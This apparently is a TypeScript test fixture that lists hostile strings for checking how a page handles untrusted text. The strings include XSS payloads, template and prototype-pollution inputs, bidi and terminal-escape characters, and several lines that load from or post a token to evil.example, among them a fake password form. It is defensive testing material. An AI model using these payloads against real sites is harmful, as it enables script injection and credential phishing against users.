/** Names of the functions and paths by which a page tells that it has obeyed. */
export const obeyed = 'obeyed';

const call = `${obeyed}()`;
const elsewhere = `//evil.example/${obeyed}`;

/** Texts that do something where a page, or what is between it and the outside, takes them for more than texts. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a script': `<script>${call}</script>`,
  'the end of a title': `</title></style></textarea></noscript><script>${call}</script>`,
  'an image': `<img src=/${obeyed} onerror=${call}>`,
  'a drawing': `<svg onload=${call}><a xlink:href="javascript:${call}"><set attributeName=href to=javascript:${call} /></a></svg>`,
  'a frame': `<iframe srcdoc="<script>parent.${call}</script>"></iframe><object data=${elsewhere}></object>`,
  'the end of an attribute, by "': `" autofocus tabindex=0 onfocus="${call}" onmouseover="${call}`,
  "the end of an attribute, by '": `' autofocus onfocus='${call}' x='`,
  'the end of an attribute, by `': `\` onclick=\`${call}\``,
  'templates of many kinds': `{{constructor.constructor('${call}')()}}\${${call}}{${call}}#{${call}}<%= ${call} %>`,
  'a node of the library': `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=/${obeyed} onerror=${call}>"}},"__k":null,"__v":1}`,
  'a script as an address': `javascript:${call}//`,
  'a script as an address, with white space': ` \u0001java\tscript:${call}//`,
  'a page as an address': `data:text/html,<script>${call}</script>`,
  'a relative address': `//evil.example/${obeyed}?x=1#/../../`,
  'a style sheet': `<link rel=stylesheet href=${elsewhere}.css><style>*{display:none}#page{background:url(${elsewhere}.png)}</style>`,
  declarations: `0;position:fixed;inset:0;background:url(${elsewhere}.png);--x:{}`,
  'another base': `<base href="http:${elsewhere}/"><meta http-equiv=refresh content="0;url=http:${elsewhere}">`,
  'a form': `<form action=http:${elsewhere}><input type=password name=token autofocus><button>The token again, please</button></form>`,
  entities: `&lt;script&gt;${call}&lt;/script&gt;&#x3c;img src=/${obeyed}&#62;&amp;`,
  'the end of a comment': `--><script>${call}</script><!--]]>`,
  'an event of the server': `x\n\nevent: gone\ndata: {}\n\nevent: snapshot\ndata: {"syncs":[]}\r\n\r\n: `,
  'the end of a line': 'x\u2028\u2029\u0085\u000b\u000cx',
  'the other direction': '\u202eevil\u202d\u202b',
  'the end of what isolates it, and the other direction':
    '\u2069\u2069\u2069\u202c\u202c\u202eevil',
  'the end of a paragraph, and the other direction': '\u2029\u001c\u202eevil',
  'an isolate without an end': '\u2067\u2067\u2066evil',
  'letters from right to left': '\u05d0\u05d1\u05d2 1 \u0627\u0628',
  'characters that nobody sees': 'a\u200bb\u200c\u200d\u2060\ufeff\u00ad\u034f\u{e0041}c',
  'what directs a terminal': '\u001b]0;evil\u0007\u001b[2J\u009b31m\u0000\u007f\u0008',
  'half a character': '\ud800x\udfff',
  'a tower of marks': `a${'\u0301\u0489'.repeat(500)}`,
  'something of every kind of sign':
    '\u{1f469}\u200d\u{1f680}\u{1f3f3}\ufe0f\u0e33\u1100\u1161\ufdfd',
};

/** Names that objects have properties of. They are hostile as they are, with nothing around them. */
export const prototypeNames: readonly string[] = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'],
];

/** The text of something that was seen at a place: what is the same in all other regards can still be told apart there. */
export function textAt(text: string, place: string): string {
  return `${text} [${place}]`;
}
